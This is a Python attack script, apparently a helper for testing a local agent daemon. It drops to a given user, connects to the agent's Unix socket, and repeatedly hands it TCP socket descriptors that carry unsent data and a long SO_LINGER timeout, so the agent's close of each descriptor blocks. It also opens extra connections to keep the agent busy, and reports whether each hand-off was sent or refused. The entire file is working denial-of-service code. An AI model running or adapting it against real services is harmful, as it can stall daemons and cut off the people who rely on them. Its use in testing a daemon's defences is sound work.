"""An attacker: hands the agent TCP sockets whose last close waits (SO_LINGER and unsent data), again and again.

Its arguments are its user, the agent's socket, how many connections it keeps open first, and how many more it opens in
each round to keep the agent busy while it closes its own copy. It says `sent`, or `refused`, at each round.
"""

import array
import os
import signal
import socket
import struct
import sys
import time

uid, path, held, crowd = int(sys.argv[1]), sys.argv[2], int(sys.argv[3]), int(sys.argv[4])
signal.signal(signal.SIGALRM, lambda *_: None)
os.setgroups([])
os.setresgid(uid, uid, uid)
os.setresuid(uid, uid, uid)


def lingering(listener, kept):
    made = socket.socket()
    made.connect(listener.getsockname())
    kept.append(listener.accept()[0])  # and never read
    made.setblocking(False)
    try:
        while True:
            made.send(bytes(65_536))
    except BlockingIOError:
        made.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 100_000))
        return made


def connected():
    made = socket.socket(socket.AF_UNIX)
    made.connect(path)
    return made


with socket.socket() as listener:
    listener.bind(("127.0.0.1", 0))
    listener.listen()
    kept = []
    places = [connected() for _ in range(held)]
    while True:
        given = lingering(listener, kept)
        busy = [connected() for _ in range(crowd)]
        last = connected()
        what = [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [given.fileno()]))]
        try:
            last.sendmsg([b"GET / HTTP/1.1\r\n"], what)
        except BrokenPipeError:  # it was faster
            pass
        except PermissionError:
            print("refused", flush=True)
            sys.exit()
        signal.setitimer(
            signal.ITIMER_REAL, 1, 1
        )  # where the agent was faster this is the last close, and waits itself
        given.close()
        signal.setitimer(signal.ITIMER_REAL, 0)
        print("sent", flush=True)
        time.sleep(0.3)
        for each in (*busy, last):
            each.close()
